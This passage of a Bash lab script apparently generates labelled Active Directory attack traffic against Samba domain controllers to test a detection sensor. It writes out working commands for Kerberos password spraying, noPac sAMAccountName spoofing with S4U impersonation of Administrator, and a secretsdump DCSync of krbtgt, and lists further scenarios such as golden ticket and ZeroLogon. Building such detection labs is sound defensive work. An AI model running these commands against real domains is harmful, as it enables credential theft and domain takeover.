  SRC=$DC2_IP step start_dc2 "DC2\$" "the new DC starts: DNS registration, replication both ways" - "samba started" \
       "legitimate" -- bash -c "dc2_start && sleep 25"
  step locator_two_dcs - "DC locator after the promotion" - "$DC2_FQDN|$DC_FQDN" "benign" -- \
       client dig +noall +answer @$DC_IP _ldap._tcp.dc._msdcs.$DNSDOMAIN SRV
}

# a password spray that finds one: frank's password is the one sprayed
sc_spray_success() {
  local spray='Winter2024!'
  step krb_spray_found "alice,bob,carol,eve.admin,svc_sql,frank" "Kerberos spray (1 password x 6 users); frank's is that password" T1110.003 \
       "Default principal|krbtgt" "5 x KDC_ERR_PREAUTH_FAILED, then an AS-REP for frank" -- \
       bash -c "for u in alice bob carol eve.admin svc_sql frank; do printf '%s\n' '$spray' | KRB5CCNAME=$CLDIR/ccache.spray client kinit \$u@$REALM 2>&1 | tail -1; done; KRB5CCNAME=$CLDIR/ccache.spray client klist"
}

# noPac (sAMAccountName spoofing) and S4U from a computer account an ordinary user adds
sc_nopac_s4u() {
  step locate_dc alice "DC locator lookup, as the tools do first" - "$DC_FQDN" "" -- \
       client dig +noall +answer @$DC_IP _ldap._tcp.dc._msdcs.$DNSDOMAIN SRV
  step addcomputer eve.admin "impacket addcomputer.py NOPAC01\$ (Samba grants ordinary users no machine account quota)" T1136.002 \
       "Successfully added|already exists" "" -- \
       imp addcomputer.py -computer-name 'NOPAC01$' -computer-pass 'NoPac#2024pass' -dc-ip $DC_IP "$DNSDOMAIN/eve.admin:$(pw eve.admin)"
  step rename_to_dc alice "rename NOPAC01\$ to '$DC_NAME' (sAMAccountName without '\$') over sealed LDAP" T1098 - \
       "Samba 4.17 refuses it (CVE-2021-42278 fix); the attempt is sealed" -- \
       bash -c "printf '%s\n' '$(pw alice)' | client kinit alice@$REALM >/dev/null; printf 'dn: CN=NOPAC01,CN=Computers,$BASEDN\nchangetype: modify\nreplace: sAMAccountName\nsAMAccountName: $DC_NAME\n' | client ldapmodify -Q -Y GSSAPI -H ldap://$DC_FQDN"
  step tgt_dc_name - "getTGT.py for '$DC_NAME' (the DC's name without '\$') with the computer's password" T1068 - \
       "the KDC knows no principal '$DC_NAME': the AS-REQ is the evidence" -- \
       impfix getTGT.py -dc-ip $DC_IP "$DNSDOMAIN/$DC_NAME:NoPac#2024pass"
  step getst_s4u 'NOPAC01$' "getST.py -spn cifs/$DC_FQDN -impersonate Administrator (S4U2self, then S4U2proxy to the DC)" T1550.003 - \
       "no delegation is configured for NOPAC01\$: the KDC refuses, the requests are on the wire" -- \
       impfix getST.py -spn cifs/$DC_FQDN -impersonate Administrator -dc-ip $DC_IP "$DNSDOMAIN/NOPAC01\$:NoPac#2024pass"
}

# Kerberos FAST (RFC 6113) as MIT clients use it when the KDC offers it: an armored AS
# exchange, then armored TGS-REQs over TCP split over several segments (the workstation's
# MTU lowered to 700), and an armored S4U2proxy the KDC refuses with KDC_ERR_BADOPTION.
# The DC offers FAST only for this scenario (kdc_fast_on before, kdc_fast_off after).
kdc_fast_set() {  # kdc_fast_set yes|no: rewrite the DC's setting and restart it if it changed
  grep -q "kdc enable fast = $1\$" "$SMBCONF" && return 0
  sed -i "s/^\( *kdc enable fast = \).*/\1$1/" "$SMBCONF"
  log "restarting the DC with kdc enable fast = $1"
  dc_stop; dc_start
}
kdc_fast_on()  { kdc_fast_set yes; }
kdc_fast_off() { in_cl ip link set "$CL_IF" mtu 1500 2>/dev/null; kdc_fast_set "${DCTAP_LAB_KDC_FAST:-no}"; }
sc_fast() {
  local tcp=$CLDIR/krb5-tcp.conf
  sed 's/^\[libdefaults\]/[libdefaults]\n  udp_preference_limit = 1/' "$CLDIR/krb5.conf" > "$tcp"
  step armor_tgt alice "kinit alice: the TGT that armors the next logon" - - "benign" -- \
       bash -c "printf '%s\n' '$(pw alice)' | KRB5_CONFIG_OVERRIDE=$tcp KRB5CCNAME=$CLDIR/ccache.armor client kinit alice@$REALM >/dev/null"
  step fast_logon bob "kinit -T (FAST-armored AS exchange over TCP)" - "fast_avail" "benign" -- \
       bash -c "printf '%s\n' '$(pw bob)' | KRB5_CONFIG_OVERRIDE=$tcp KRB5CCNAME=$CLDIR/ccache.fast client kinit -T $CLDIR/ccache.armor bob@$REALM >/dev/null; KRB5_CONFIG_OVERRIDE=$tcp KRB5CCNAME=$CLDIR/ccache.fast client klist -C"
  step fast_tgs_split bob "kvno cifs/ and ldap/ with FAST over TCP, MTU 700: each TGS-REQ split over several segments" - \
       "cifs/$DC_FQDN@$REALM: kvno" "benign" -- \
       bash -c "ip netns exec $NS_CL ip link set $CL_IF mtu 700; for s in cifs ldap; do KRB5_CONFIG_OVERRIDE=$tcp KRB5CCNAME=$CLDIR/ccache.fast client kvno \$s/$DC_FQDN; done"
  step fast_svc_logon svc_sql "kinit -T svc_sql (FAST)" - - "benign" -- \
       bash -c "printf '%s\n' '$(pw svc_sql)' | KRB5_CONFIG_OVERRIDE=$tcp KRB5CCNAME=$CLDIR/ccache.fsvc client kinit -T $CLDIR/ccache.armor svc_sql@$REALM >/dev/null"
  step fast_s4u_refused svc_sql "kvno -U alice -P cifs/$DC_FQDN with FAST: S4U2self, then an S4U2proxy to the DC the KDC refuses (KDC_ERR_BADOPTION, no delegation configured)" T1550.003 \
       "constrained delegation failed" "delegation toward the DC from an account that never did it" -- \
       bash -c "KRB5_CONFIG_OVERRIDE=$tcp KRB5CCNAME=$CLDIR/ccache.fsvc client kvno -U alice -P cifs/$DC_FQDN"
}

# ---- two DCs, one sensor each (after the promotion: dc2 joined and running) ------------
# krb5.conf files that send every Kerberos request to one DC (no KDC lookup in DNS).
kdc_conf() {  # kdc_conf <dc address> -> path of its krb5.conf
  local f=$CLDIR/krb5-kdc-$1.conf
  cat > "$f" <<EOC
[libdefaults]
  default_realm = $REALM
  dns_lookup_realm = false
  dns_lookup_kdc = false
  rdns = false
  dns_canonicalize_hostname = false
[realms]
  $REALM = {
    kdc = $1
  }
[domain_realm]
  .$DNSDOMAIN = $REALM
  $DNSDOMAIN = $REALM
EOC
  echo "$f"
}

# A TGT issued by DC1 used at DC2 (each seen by its own sensor): nothing to raise.
sc_tgt_two_dcs() {
  local dc1 dc2; dc1=$(kdc_conf $DC_IP); dc2=$(kdc_conf $DC2_IP)
  step tgt_at_dc1 alice "kinit alice at DC1 (its sensor sees the AS exchange)" - - "benign" -- \
       bash -c "printf '%s\n' '$(pw alice)' | KRB5_CONFIG_OVERRIDE=$dc1 KRB5CCNAME=$CLDIR/ccache.twodc client kinit alice@$REALM >/dev/null"
  step tgs_at_dc2 alice "kvno cifs/ and ldap/ of dc2 at DC2 with DC1's TGT (DC2's sensor sees the TGS exchanges)" - \
       "cifs/$DC2_FQDN@$REALM: kvno" "benign: the TGT was issued by a watched DC" -- \
       bash -c "for s in cifs ldap; do KRB5_CONFIG_OVERRIDE=$dc2 KRB5CCNAME=$CLDIR/ccache.twodc client kvno \$s/$DC2_FQDN; done"
  step smb_at_dc2 alice "smbclient -k to dc2 with the service ticket" - - "benign" -- \
       bash -c "KRB5_CONFIG_OVERRIDE=$dc2 KRB5CCNAME=$CLDIR/ccache.twodc smbc smbclient -k //$DC2_FQDN/netlogon -c ls 2>&1 | tail -2"
}

# A Kerberos spray sent alternately to both DCs: one spray, whose alert names both DCs.
sc_spray_two_dcs() {
  local dc1 dc2 spray='Autumn2024!'; dc1=$(kdc_conf $DC_IP); dc2=$(kdc_conf $DC2_IP)
  step krb_spray_two_dcs "alice,bob,carol,frank,svc_sql" "Kerberos spray (1 password x 5 users), alternately at DC1 and DC2" T1110.003 \
       "Password incorrect" "5 x KDC_ERR_PREAUTH_FAILED, at DC1 and DC2 in turn" -- \
       bash -c "i=0; for u in alice bob carol frank svc_sql; do c=$dc1; [ \$((i % 2)) = 1 ] && c=$dc2; i=\$((i+1)); printf '%s\n' '$spray' | KRB5_CONFIG_OVERRIDE=\$c KRB5CCNAME=$CLDIR/ccache.spray client kinit \$u@$REALM 2>&1 | tail -1; done"
}

# DCSync against the second DC from a workstation.
sc_dcsync_dc2() {
  step secretsdump_dc2 eve.admin "DCSync against DC2: secretsdump -just-dc-user DOMAIN/krbtgt (Samba shim)" T1003.006 \
       "krbtgt:aes256" "DRSGetNCChanges at DC2, seen by DC2's sensor (hashes kept in the lab's state folder)" -- \
       bash -c "impfix secretsdump.py -just-dc-user '$DOMAIN/krbtgt' -outputfile $CLDIR/loot/dcsync-dc2 '$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC2_IP' | sed -E 's/[0-9a-f]{32,}/<hash>/g'"
}

# Ordinary replication between the two DCs, both ways: nothing to raise.
sc_replication() {
  SRC=$DC2_IP step drs_replicate_to_dc2 "DC2\$" "samba-tool drs replicate dc2 dc1 (DC2 pulls from DC1)" - "[Rr]eplicate from" "benign" -- \
       in_dc2 samba-tool drs replicate $DC2_NAME $DC_NAME $BASEDN -s "$DC2CONF" -U "$DOMAIN\\Administrator" --password="$ADMINPASS"
  SRC=$DC_IP step drs_replicate_to_dc1 "DC1\$" "samba-tool drs replicate dc1 dc2 (DC1 pulls from DC2)" - "[Rr]eplicate from" "benign" -- \
       in_dc samba-tool drs replicate $DC_NAME $DC2_NAME $BASEDN -s "$SMBCONF" -U "$DOMAIN\\Administrator" --password="$ADMINPASS"
}

SCENARIOS=(
  "01_normal_logons|normal logons, service tickets, SMB, LDAP, DNS from two workstations (benign)|sc_normal"
  "02_password_spray|password spraying and brute force (Kerberos + NTLM)|sc_spray"
  "03_kerberoasting|Kerberoasting (RC4 TGS-REQ for a user SPN)|sc_kerberoast"
  "04_asrep_roasting|AS-REP roasting|sc_asrep"
  "05_ldap_recon|LDAP reconnaissance|sc_ldap_recon"
  "06_samr_lsarpc_recon|SAMR / LSARPC reconnaissance|sc_rpc_recon"
  "07_dns_recon|DNS zone transfer attempt and name brute force|sc_dns"
  "08_dcsync|DCSync of the krbtgt account|sc_dcsync"
  "09_pass_the_hash|pass-the-hash from a second workstation|sc_pth"
  "10_overpass_the_hash|overpass-the-hash (RC4 TGT from an NT hash)|sc_opth"
  "11_pass_the_ticket|pass-the-ticket (one TGT from two hosts)|sc_ptt"
  "12_golden_ticket|golden ticket (forged TGTs, one for a nonexistent account)|sc_golden|dcsync_quiet"
  "13_honeytoken|honeytoken account activity|sc_honeytoken"
  "14_account_enumeration|account enumeration (kerbrute-style AS-REQs)|sc_enum"
  "15_forced_authentication|forced authentication (EFSRPC, SPOOLSS)|sc_coerce"
  "16_remote_execution|remote execution on the DC (SVCCTL, task scheduler, ATSVC)|sc_remote_exec"
  "17_zerologon|ZeroLogon attempt|sc_zerologon"
  "18_dcshadow|DCShadow (the rogue DC's DRSUAPI calls)|sc_dcshadow"
  "19_busy_hours|benign busy hours: many users, an RC4-only service account, typos, NTLM applications|sc_busy"
  "20_dc_promotion|a second DC joins the domain and replicates (legitimate)|sc_promotion"
  "21_busy_hours_two_dcs|benign busy hours with the second DC up|sc_busy"
  "22_spray_success|a password spray that finds a password|sc_spray_success"
  "23_nopac_s4u|noPac (a TGT for the DC's name without its \$) and S4U from an added computer account|sc_nopac_s4u"
  "24_silver_ticket|silver ticket (a service ticket forged with the DC's machine key)|sc_silver|dcsync_dc_quiet"
  "25_kerberos_fast|Kerberos FAST from MIT clients: armored logons, split TGS-REQs, a refused S4U2proxy|sc_fast|kdc_fast_on|kdc_fast_off"
  "26_tgt_two_dcs|a TGT issued by DC1 used at DC2, each DC with its own sensor (benign)|sc_tgt_two_dcs"
  "27_spray_two_dcs|a Kerberos spray sent alternately to both DCs|sc_spray_two_dcs"
  "28_dcsync_dc2|DCSync against the second DC from a workstation|sc_dcsync_dc2"
  "29_replication|replication between the two DCs, both ways (legitimate)|sc_replication"
)

scenarios_list() { local s; for s in "${SCENARIOS[@]}"; do IFS='|' read -r key title _ <<<"$s"; printf '%-28s %s\n' "$key" "$title"; done; }

scenarios_run() {  # scenarios_run [key-substring...]
  mkdir -p "$OUT"
  export LAB STATE OUT RUN LOGS CLDIR VENV NS_CL NS_CL2 DC_IP CL_IP CL2_IP DC_FQDN DNSDOMAIN DOMAIN REALM BASEDN SPN_SVC
  export DC_NAME NS_DC DC_IF NS_DC2 DC2_IP DC2_NAME DC2_FQDN DC2DIR DC2CONF SMBCONF SAMLDB ADMINPASS RUN LOGS CL_IF
  export -f client client2 imp imp2 impfix impfix2 imptool smbc smbc2 kinit_wrong smb_wrong imp_wrong imp_smb_wrong kdc_conf
  export -f dc2_join dc2_start dc2_stop dc2_forget dc2_running in_dc in_dc2 kill_pidfile descendants ns_kill_all ns_exists log
  [ $# -eq 0 ] && rm -rf "$PCAPS" "$OUT/scenarios.jsonl" "$OUT/steps.jsonl"
  local s key title fn prep post
  for s in "${SCENARIOS[@]}"; do
    IFS='|' read -r key title fn prep post <<<"$s"
    if [ $# -gt 0 ]; then
      local want=0 w; for w in "$@"; do [[ $key == *$w* ]] && want=1; done
      [ $want = 1 ] || continue
    fi
    timed "scenario $key" scenario "$key" "$title" "$fn" "$prep"
    if [ -n "$post" ]; then "$post" || log "clean-up step $post failed"; fi
  done
  "$VENV/bin/python3" "$LAB/tools/make_labels.py" "$OUT"
}
